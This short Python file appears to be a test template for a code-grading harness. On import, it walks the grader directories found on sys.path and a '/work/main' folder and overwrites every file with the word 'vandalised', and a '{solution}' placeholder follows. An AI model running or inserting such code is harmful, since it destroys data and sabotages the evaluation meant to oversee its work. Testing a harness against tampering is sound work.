import os as _os
import sys as _sys


def _vandalise():
    """Try to overwrite every file of the project found from sys.path or a guessed location."""
    roots = {_os.path.dirname(p) for p in _sys.path if p.endswith("graders")} | {"/work/main"}
    for root in roots:
        for folder, _, names in _os.walk(root):
            for name in names:
                try:
                    with open(_os.path.join(folder, name), "w") as f:
                        f.write("vandalised")
                except OSError:
                    pass


_vandalise()

{solution}
